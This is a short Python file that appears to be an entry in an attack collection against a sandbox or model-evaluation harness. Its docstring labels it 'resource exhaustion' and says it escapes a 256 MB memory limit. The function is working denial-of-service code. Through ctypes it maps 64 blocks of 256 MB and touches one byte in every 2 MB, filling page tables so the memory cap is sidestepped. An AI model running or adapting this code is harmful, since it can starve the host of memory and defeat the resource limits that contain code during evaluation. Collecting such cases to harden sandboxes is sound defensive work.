"""Class: resource exhaustion. Source: own find. Escape: page tables are filled by touching one
page in two megabytes.
Limits: timeout_s=2, memory_bytes=1 << 28
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(64):
        at = libc.mmap(None, 256 << 20, 3, 0x4022, -1, 0)
        if not at or at == 2**64 - 1:
            raise MemoryError
        libc.madvise(ctypes.c_void_p(at), 256 << 20, 15)
        for offset in range(0, 256 << 20, 2 << 20):
            ctypes.string_at(at + offset, 1)
